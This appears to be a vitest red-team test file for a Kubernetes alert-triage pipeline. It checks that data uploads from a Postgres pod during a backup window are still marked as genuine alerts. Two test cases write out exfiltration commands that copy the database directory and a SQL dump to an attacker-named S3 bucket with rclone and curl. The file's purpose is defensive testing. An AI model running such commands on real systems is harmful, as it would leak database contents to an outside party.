/**
 * Red-team traps for the excuses given to a workload's own behaviour: an attacker who knows the rule reads the declared
 * token file from a child of the app, uploads from a database pod with their own tool, tunnels out of a GitOps repo
 * server, or runs a miner in a pod the EDR keeps killing. Every alert here must stay genuine.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { buildIndex } from '../../../src/cluster/index.js';
import type { AuditActivity } from '../../../src/cluster/model.js';
import { alert, containerIdOf, node, pod, snapshot } from '../../support/cluster.js';

const at = (p: ReturnType<typeof pod>) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });

describe('redteam database-backup-upload: a database pod uploading with a tool that is no backup', () => {
  const W = 'i-0b77e3f190c2a4d62';
  const db = pod('ledger-db-1', {
    namespace: 'ledger',
    node: W,
    ip: '100.112.0.80',
    owner: { kind: 'Cluster', name: 'ledger-db' },
    labels: { 'cnpg.io/cluster': 'ledger-db' },
    containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.3', command: ['/controller/manager', 'instance', 'run'] }],
  });
  const backup: AuditActivity = {
    time: '2027-03-16T11:30:00.012Z',
    user: 'system:serviceaccount:cnpg-system:cnpg-manager',
    groups: ['system:serviceaccounts'],
    verb: 'create',
    resource: 'backups',
    apiGroup: 'postgresql.cnpg.io',
    namespace: 'ledger',
    name: 'ledger-db-daily-20270316113000',
    sourceIps: ['100.120.0.70'],
    code: 201,
  };
  const s = snapshot([node(W, '172.20.71.203'), db]);
  s.auditActivities = [backup];
  const index = buildIndex([s]);
  const upload = (process: { name: string; commandLine: string }, ancestors: { name: string; commandLine?: string }[]) =>
    triageAlert(
      alert({ time: '2027-03-16T11:34:00.000Z', title: 'Large outbound transfer to cloud storage', process, ancestors, container: at(db), network: { srcIp: '100.112.0.80', dstIp: '52.219.170.10', dstPort: 443, domain: 'loot-7f3a.s3.eu-central-1.amazonaws.com' } }),
      { index },
    ).verdict;
  it('trap: rclone, started from a shell in the database container, copying to a bucket during the backup window', () => {
    expect(upload({ name: 'rclone', commandLine: 'rclone copy /var/lib/postgresql/data s3:loot-7f3a' }, [{ name: 'sh', commandLine: 'sh' }]).label).toBe('genuine');
  });
  it('trap: curl PUT of a dump during the backup window', () => {
    expect(upload({ name: 'curl', commandLine: 'curl -T /tmp/d.sql.gz https://loot-7f3a.s3.eu-central-1.amazonaws.com/d' }, [{ name: 'bash', commandLine: 'bash' }]).label).toBe('genuine');
  });
});
